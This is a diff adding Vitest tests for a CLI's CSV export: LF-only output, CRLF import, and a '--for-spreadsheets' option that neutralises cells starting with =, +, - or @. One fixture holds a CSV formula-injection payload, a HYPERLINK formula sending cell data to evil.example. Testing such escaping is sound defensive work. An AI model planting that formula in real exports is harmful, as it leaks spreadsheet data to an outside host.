@@ -1,6 +1,6 @@
-import { readFileSync, statSync } from "node:fs";
+import { readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { expect, test } from "vitest";
+import { describe, expect, test } from "vitest";
 import { packageRoot } from "../../prisma/package-root.js";
 import { createTestDatabase } from "../support/database.js";
 import { TEST_SECRET } from "../support/factories.js";
@@ -54,3 +54,43 @@ test.each(["csv", "ndjson"])(
     expect(statSync(output).mode & 0o777).toBe(0o600);
   },
 );
+
+test("an export has no carriage returns, and an import reads it with CRLF too", async () => {
+  const { ana, loft, owns } = makeRows();
+  await importRows(ana, loft, owns);
+  const output = join(folder, "lf.csv");
+  const { users, listings, memberships } = await commands.json("export", "--output", output);
+  const text = readFileSync(output, "utf8");
+  expect(text).not.toContain("\r");
+  writeFileSync(output, text.replaceAll("\n", "\r\n"));
+  const counts = { users: unchanged(users), listings: unchanged(listings), memberships: unchanged(memberships) };
+  expect(await importJson(output)).toEqual({ dryRun: false, ...counts });
+});
+
+describe("--for-spreadsheets", () => {
+  test("an export with it has an apostrophe before =, +, - and @ at the start of a cell, and quotes around other separators", async () => {
+    const { loft, ana, id } = makeRows();
+    const formula = '=HYPERLINK("https://evil.example?"&A1,"click")';
+    const odd = { ...loft, externalId: `-${id}`, title: formula, address: "+1", city: "@x", district: "a;=1" };
+    await importRows({ ...ana, externalId: `@${id}`, name: "A-1" }, odd, { ...loft, title: "A=1" });
+    const output = join(folder, "sheet.csv");
+    await commands.text("export", "--for-spreadsheets", "--output", output);
+    const lines = readFileSync(output, "utf8").split("\n");
+    expect(lines.find((line) => line.includes(`'@${id},`))).toContain(",A-1,");
+    expect(lines.find((line) => line.includes(`listing,'-${id},`))).toContain(
+      `"'=HYPERLINK(""https://evil.example?""&A1,""click"")",'+1,'@x,`,
+    );
+    expect(lines.find((line) => line.includes(`listing,'-${id},`))).toContain(',"a;=1",');
+    expect(lines.find((line) => line.startsWith(`listing,${loft.externalId},`))).toContain(",A=1,");
+    await commands.text("export", "--output", output);
+    expect(readFileSync(output, "utf8")).toContain(`listing,-${id},`);
+  });
+
+  test.each([
+    ["--format", "ndjson"],
+    ["--output", "x.ndjson"],
+  ])("with %s %s it is a usage error", async (...args) => {
+    const message = "--for-spreadsheets writes CSV: remove it, or choose this format.";
+    expect(await commands.failure("export", "--for-spreadsheets", ...args)).toEqual([2, message]);
+  });
+});
